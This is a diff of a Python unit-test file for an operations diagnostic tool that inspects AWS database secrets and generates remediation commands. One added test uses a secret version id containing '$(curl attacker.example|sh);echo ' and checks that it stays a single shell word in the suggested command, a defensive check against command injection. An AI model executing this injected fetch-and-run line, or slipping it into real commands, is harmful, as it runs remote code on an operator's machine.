@@ -1,47 +1,46 @@
-"""Two secrets that agree, and a database that refuses their password."""
+"""The two secrets of the database: while its stack is deleted, and with versions that an attacker has named."""
 
-import json
-from datetime import datetime, timedelta
+import shlex
 from types import SimpleNamespace
 from typing import Any
 
-import pytest
-
 from installation.settings import Settings
-from ops.doctor import database_login
-from ops.doctor.database_login import note_agreement
-from ops.doctor.examiner import Examiner
-from ops.doctor.finding import Evidence
-from ops.doctor.subjects import Subject
+from ops.doctor.database import examine
+from tests.support.fake_clients import client_error
 from tests.support.fakes import NOW, FakeAccount
-from tests.support.running_account import running
-
-SECRETS = {
-    "url-secret": "postgresql://hannibal:secret@db.example:5432/postgres",
-    "hannibal/db/password": json.dumps({"username": "hannibal", "password": "secret"}),
-}
-LINE = Evidence("log of 01234567", 'FATAL: password authentication failed for user "hannibal"')
+from tests.unit.ops.doctor.test_database import URL, Secrets, look
 
 
-@pytest.mark.parametrize(("minutes", "causes"), [(1, ["password-refused"]), (20, [])])
-def test_a_password_that_was_changed_in_rds_alone(
-    account: FakeAccount, settings: Settings, monkeypatch: pytest.MonkeyPatch, minutes: int, causes: list[str]
-) -> None:
-    """The tasks' log led to this section, which said that the secrets agree."""
+def test_a_half_deleted_stack_misses_no_secret(account: FakeAccount, settings: Settings) -> None:
+    """CloudFormation has deleted it for good, and `restore-secret` was the advice."""
 
-    def printed(_examiner: object, _pattern: str, since: datetime) -> tuple[Evidence, ...]:
-        return (LINE,) if since <= NOW - timedelta(minutes=minutes) else ()
+    def gone(**_: object) -> Any:
+        raise client_error("ResourceNotFoundException", operation="GetSecretValue")
 
-    def get_secret_value(SecretId: str, **_: str) -> Any:  # noqa: N803 - boto3's name
-        return {"SecretString": SECRETS[SecretId], "VersionId": "new", "CreatedDate": NOW}
-
-    monkeypatch.setattr(database_login, "complaints", printed)
-    running(account)
-    account.stacks["StorageStack"]["Outputs"] = [{"OutputKey": "DatabaseUrlSecret", "OutputValue": "url-secret"}]
+    secrets = Secrets()
+    secrets.get_secret_value = gone  # type: ignore[method-assign, assignment]
+    assert {it.cause for it in look(account, settings, secrets).findings} >= {"password-missing"}
     aws: Any = account.aws(settings)
-    aws.secretsmanager = SimpleNamespace(get_secret_value=get_secret_value)
-    examiner = Examiner(Subject.DATABASE, aws, NOW)
-    note_agreement(examiner, "db.example:5432", (LINE,))
-    findings = examiner.examination().findings
-    assert [it.cause for it in findings] == causes
-    assert all("--master-user-password" in it.remediations[0].command for it in findings)
+    account.stacks["StorageStack"]["StackStatus"] = "DELETE_FAILED"
+    aws.secretsmanager = secrets
+    aws.logs = SimpleNamespace(get_paginator=lambda _: SimpleNamespace(paginate=lambda **__: []))
+    assert examine(aws, NOW).findings == ()
+
+
+def test_an_id_that_a_secrets_writer_has_chosen_is_one_word_of_the_command(
+    account: FakeAccount, settings: Settings
+) -> None:
+    """The ids of versions are any text of 32 to 64 characters, and an operator copies the command."""
+    chosen = "$(curl attacker.example|sh);echo "
+    secrets = Secrets(url=URL.replace(":secret@", ":another@"))
+    secrets.describe_secret = lambda **_: {  # type: ignore[method-assign]
+        "VersionIdsToStages": {f"{chosen}1": ["AWSCURRENT"], f"{chosen}2": ["AWSPREVIOUS"]}
+    }
+
+    (finding,) = look(account, settings, secrets).findings
+
+    words = shlex.split(finding.remediations[0].command)
+    # Requests fail until new tasks run, so a release waits for alarms otherwise.
+    assert finding.remediations[1].command.endswith("--again --image IMAGE --ignore-alarms")
+    assert words[words.index("--move-to-version-id") + 1] == f"{chosen}2"
+    assert words[words.index("--remove-from-version-id") + 1] == f"{chosen}1"
